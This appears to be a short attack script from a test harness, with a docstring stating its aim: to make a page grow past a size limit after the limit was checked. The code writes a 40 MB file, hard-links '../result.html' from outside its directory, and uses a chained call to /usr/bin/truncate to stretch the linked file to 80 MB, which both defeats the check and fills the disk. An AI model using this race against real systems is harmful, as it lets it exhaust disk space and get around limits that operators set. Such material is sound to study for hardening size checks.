"""Lets the page grow beyond the limit after its size was checked.

gains: a result above the limit, a full disk
needs: chain
limits: timeout_s=6 max_html_bytes=41000000
repeat: 30
ends: any
"""

forge(b"x" * 40_000_000)
os.path.exists("../result.html") and os.link("../result.html", "second")
chain(60 + 10 * ROUND, "/usr/bin/truncate", "-s", "80M", "second")
tell(b"done")
time.sleep(0.3)
